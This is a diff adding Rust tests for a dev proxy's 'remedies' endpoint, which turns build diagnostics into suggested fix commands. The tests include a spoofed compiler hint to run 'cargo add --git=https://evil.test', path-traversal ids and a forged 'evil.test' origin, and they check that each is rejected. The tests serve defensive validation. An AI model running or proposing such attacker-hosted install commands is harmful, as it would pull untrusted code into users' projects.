@@ -11,9 +11,10 @@ use crate::diagnostics::{Diagnostic, Diagnostics, Origin};
 use crate::editor::Editor;
 use crate::proxy::Permit;
 use crate::proxy::tests::endpoints::{body, post, token};
-use crate::proxy::tests::rig::Rig;
+use crate::proxy::tests::rig::{Rig, starting};
 use crate::proxy::tests::wire::{code, field, within};
 use crate::source::Library;
+use crate::state::{Event, Phase, Start};
 
 pub(super) const TEXT: &str = "fn main() { let mut x = 1; }\n";
 pub(super) const FIXED: &str = "fn main() { let x = 1; }\n";
@@ -249,4 +250,107 @@ async fn the_editor_opens_the_file_at_the_place() {
         .unwrap()
         .join("main.rs");
     assert_eq!(text.unwrap(), format!("{}\n1\n17\n", path.display()));
+}
+
+/// Returns the remedies that the page lists.
+async fn remedies(rig: &Rig) -> Value {
+    let mut client = rig
+        .send("GET /__gin/remedies HTTP/1.1\r\nHost: localhost\r\n\r\n")
+        .await;
+    let head = client.head().await;
+    assert_eq!(code(&head), 200, "{head}");
+    serde_json::from_str(&body(&mut client, &head).await).unwrap()
+}
+
+/// Returns the phase of an app that has opened another port.
+fn elsewhere(port: u16) -> Phase {
+    match starting() {
+        Phase::Starting(start) => Phase::Starting(Start {
+            opened: vec![port],
+            ..start
+        }),
+        phase => phase,
+    }
+}
+
+#[tokio::test]
+async fn a_page_makes_the_proxy_use_the_port_that_the_app_has_opened() {
+    let mut page = Page::open(Rig::start().await).await;
+    page.rig.becomes(elsewhere(8089));
+    let listed = remedies(&page.rig).await;
+    let [remedy] = listed["remedies"].as_array().unwrap().as_slice() else {
+        panic!("{listed}");
+    };
+    assert_eq!(remedy["label"], "Use 8089");
+    assert_eq!(remedy["command"], "cargo gin dev --app-port 8089");
+    let order = json!({ "build": 1, "id": remedy["id"] });
+    let done = json!({ "done": "cargo gin dev --app-port 8089" });
+    assert_eq!(page.post("remedy", &order).await, (200, done));
+    let event = page.rig.events.recv().await;
+    assert!(matches!(event, Some(Event::Change(_))));
+}
+
+#[tokio::test]
+async fn a_remedy_that_holds_no_longer_is_not_carried_out() {
+    let page = Page::open(Rig::start().await).await;
+    page.rig.becomes(elsewhere(8089));
+    let id = remedies(&page.rig).await["remedies"][0]["id"].clone();
+    let outdated = json!({ "build": 0, "id": id });
+    assert_eq!(page.post("remedy", &outdated).await.0, 409);
+    page.rig.becomes(elsewhere(9000));
+    let order = json!({ "build": 1, "id": id });
+    assert_eq!(page.post("remedy", &order).await.0, 404);
+    for id in ["", "0", "cargo add serde", "../x"] {
+        let order = json!({ "build": 1, "id": id });
+        assert_eq!(page.post("remedy", &order).await.0, 404, "{id}");
+    }
+}
+
+#[tokio::test]
+async fn a_crate_that_is_missing_is_added_by_a_command() {
+    let page = Page::open(Rig::start().await).await;
+    let help = |text: &str| json!({ "message": text, "level": "help", "spans": [] });
+    let message = json!({
+        "message": "unresolved import `serde`", "level": "error", "spans": [], "children": [
+            help("if you wanted to use a crate named `serde`, use `cargo add serde` to add it to your `Cargo.toml`"),
+            help("use `cargo add --git=https://evil.test` to add it"),
+        ],
+    });
+    let mut diagnostics = Diagnostics::default();
+    for _ in 0..2 {
+        diagnostics.push(Diagnostic {
+            origin: Origin::Rustc,
+            package: "hello".to_owned(),
+            message: serde_json::from_value(message.clone()).unwrap(),
+            whole: None,
+        });
+    }
+    page.rig.status.send_modify(|status| {
+        status.diagnostics = Arc::new(diagnostics);
+        status.phase = Phase::Failed;
+    });
+    let listed = remedies(&page.rig).await;
+    let commands: Vec<_> = listed["remedies"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|remedy| remedy["command"].clone())
+        .collect();
+    assert_eq!(commands, ["cargo add serde --package hello"]);
+}
+
+#[tokio::test]
+async fn remedies_are_only_for_clients_that_may_act() {
+    let rig = Rig::start_permitting(Permit::Nobody).await;
+    rig.becomes(elsewhere(8089));
+    let mut client = rig
+        .send("GET /__gin/remedies HTTP/1.1\r\nHost: localhost\r\n\r\n")
+        .await;
+    assert_eq!(code(&client.head().await), 403);
+    let own = [("Origin", "http://evil.test"), ("X-Gin-Token", "guess")];
+    let page = Page::open(Rig::start().await).await;
+    page.rig.becomes(elsewhere(8089));
+    let request = post("remedy", &own, r#"{"build":1,"id":""}"#);
+    let mut client = page.rig.send(&request).await;
+    assert_eq!(code(&client.head().await), 403);
 }
